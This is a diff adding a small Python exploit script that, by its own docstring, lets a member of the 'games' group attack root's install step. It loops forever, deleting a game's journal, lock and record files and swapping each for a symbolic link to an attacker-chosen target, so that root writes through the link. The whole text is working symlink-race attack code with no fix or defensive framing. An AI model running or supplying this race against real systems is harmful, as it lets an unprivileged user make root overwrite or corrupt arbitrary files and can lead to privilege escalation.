@@ -1,0 +1,22 @@
+"""A member of the group games attacking root's install step: every record
+file that root makes is swapped at once for a symbolic link to TARGET, and
+every name is kept missing, so that root makes it again.
+
+Usage: swap_links.py FOLDER TARGET   (runs until killed)
+"""
+import os
+import stat
+import sys
+
+folder, target = sys.argv[1], sys.argv[2]
+names = ["tavola7.journal", "tavola7.lock", "tavrec7.txt", "ntavrec7.txt"]
+os.chdir(folder)
+while True:
+    for name in names:
+        try:
+            mode = os.lstat(name).st_mode
+            os.unlink(name)
+            if stat.S_ISREG(mode):
+                os.symlink(target, name)
+        except OSError:
+            pass
